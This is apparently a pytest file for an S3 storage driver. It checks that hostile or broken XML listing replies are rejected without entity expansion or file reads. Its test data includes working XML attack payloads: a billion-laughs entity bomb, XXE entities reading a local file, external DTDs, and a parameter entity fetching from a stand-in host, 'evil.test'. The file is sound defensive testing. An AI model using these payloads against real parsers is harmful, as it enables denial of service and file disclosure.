"""Hostile and broken XML replies: refused quickly, no entity expansion, no file read."""

from __future__ import annotations

from pathlib import Path

import pytest
import responses
from wirekit import BASE, listing_xml

from libstore.base import Container
from libstore.drivers.s3 import S3StorageDriver
from libstore.types import LibstoreError, ResponseError

LIST_URL = f"{BASE}/bkt?list-type=2"

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ListBucketResult><IsTruncated>false</IsTruncated>
<Contents><Key>&lol9;</Key><Size>1</Size></Contents></ListBucketResult>"""


def _xxe(path: Path) -> str:
    return f"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{path}">]>
<ListBucketResult><IsTruncated>false</IsTruncated>
<Contents><Key>&xxe;</Key><Size>1</Size></Contents></ListBucketResult>"""


@pytest.fixture
def sentinel_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("SENTINEL-FILE-CONTENT")
    return path


def _list(driver: S3StorageDriver) -> list[str]:
    return [o.name for o in driver.list_container_objects(Container("bkt", {}, driver))]


@pytest.mark.timeout(10)
def test_billion_laughs_listing_is_refused(
    driver: S3StorageDriver, mock: responses.RequestsMock
) -> None:
    mock.add(responses.GET, LIST_URL, body=BILLION_LAUGHS.encode())
    with pytest.raises(ResponseError) as info:
        _list(driver)
    assert "DTD" in str(info.value)
    assert len(mock.calls) == 1  # not retried


@pytest.mark.timeout(10)
def test_external_entity_listing_is_refused_without_reading_the_file(
    driver: S3StorageDriver, mock: responses.RequestsMock, sentinel_file: Path
) -> None:
    mock.add(responses.GET, LIST_URL, body=_xxe(sentinel_file).encode())
    with pytest.raises(ResponseError) as info:
        _list(driver)
    assert "SENTINEL" not in str(info.value)


@pytest.mark.timeout(10)
def test_external_dtd_is_refused(
    driver: S3StorageDriver, mock: responses.RequestsMock, sentinel_file: Path
) -> None:
    body = (
        f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "file://{sentinel_file}">'
        "<ListBucketResult><IsTruncated>false</IsTruncated></ListBucketResult>"
    )
    mock.add(responses.GET, LIST_URL, body=body.encode())
    with pytest.raises(ResponseError):
        _list(driver)


@pytest.mark.timeout(10)
def test_parameter_entity_is_refused(driver: S3StorageDriver, mock: responses.RequestsMock) -> None:
    body = (
        '<?xml version="1.0"?><!doctype r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>'
        "<ListBucketResult/>"
    )
    mock.add(responses.GET, LIST_URL, body=body.encode())
    with pytest.raises(ResponseError):
        _list(driver)


@pytest.mark.parametrize(
    "body",
    [
        b"<ListBucketResult><Contents><Key>a</Key>",
        b"not xml at all",
        b"",
        b"   \n ",
        b"<ListBucketResult></ListBucketResultX>",
        b"\xff\xfe\x00garbage",
        b"<a>&undefined;</a>",
    ],
    ids=["truncated", "text", "empty", "blank", "mismatched", "binary", "undefined-entity"],
)
@pytest.mark.timeout(10)
def test_malformed_listing_is_response_error(
    driver: S3StorageDriver, mock: responses.RequestsMock, body: bytes
) -> None:
    mock.add(responses.GET, LIST_URL, body=body)
    with pytest.raises(ResponseError):
        _list(driver)
    assert len(mock.calls) == 1


@pytest.mark.timeout(10)
def test_error_reply_with_dtd_is_not_trusted(
    driver: S3StorageDriver, mock: responses.RequestsMock
) -> None:
    # A hostile error body must not crash or hang the error path either.
    body = BILLION_LAUGHS.replace("ListBucketResult", "Error").encode()
    mock.add(responses.GET, LIST_URL, status=400, body=body)
    with pytest.raises(LibstoreError) as info:
        _list(driver)
    assert info.value.http_status == 400
    assert info.value.code is None
    assert "lol" not in str(info.value)


@pytest.mark.timeout(10)
def test_utf16_external_entity_does_not_read_the_file(
    driver: S3StorageDriver, mock: responses.RequestsMock, sentinel_file: Path
) -> None:
    body = _xxe(sentinel_file).replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    mock.add(responses.GET, LIST_URL, body=body.encode("utf-16"))
    try:
        names = _list(driver)
    except ResponseError as exc:
        assert "SENTINEL" not in str(exc)
    else:
        assert all("SENTINEL" not in name for name in names)


@pytest.mark.timeout(10)
def test_utf16_billion_laughs_is_refused(
    driver: S3StorageDriver, mock: responses.RequestsMock
) -> None:
    body = BILLION_LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    mock.add(responses.GET, LIST_URL, body=body.encode("utf-16"))
    with pytest.raises(ResponseError):
        _list(driver)


def test_utf16_document_with_dtd_is_refused(
    driver: S3StorageDriver, mock: responses.RequestsMock
) -> None:
    body = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "expanded">]>'
        "<ListBucketResult><IsTruncated>false</IsTruncated>"
        "<Contents><Key>&e;</Key><Size>1</Size></Contents></ListBucketResult>"
    )
    mock.add(responses.GET, LIST_URL, body=body.encode("utf-16"))
    with pytest.raises(ResponseError):
        _list(driver)


def test_doctype_after_long_comment_is_refused(
    driver: S3StorageDriver, mock: responses.RequestsMock, sentinel_file: Path
) -> None:
    body = (
        '<?xml version="1.0"?><!--' + "x" * 5000 + "-->"
        f'<!DOCTYPE ListBucketResult SYSTEM "file://{sentinel_file}">'
        "<ListBucketResult><IsTruncated>false</IsTruncated></ListBucketResult>"
    )
    mock.add(responses.GET, LIST_URL, body=body.encode())
    with pytest.raises(ResponseError):
        _list(driver)


def test_namespaced_and_plain_listings_parse_alike(
    driver: S3StorageDriver, mock: responses.RequestsMock
) -> None:
    plain = listing_xml(["a", "b"]).replace(
        b' xmlns="http://s3.amazonaws.com/doc/2006-03-01/"', b""
    )
    mock.add(responses.GET, LIST_URL, body=plain)
    mock.add(responses.GET, LIST_URL, body=listing_xml(["a", "b"]))
    first = _list(driver)
    second = _list(driver)
    assert first == second == ["a", "b"]
    assert len(mock.calls) == 2
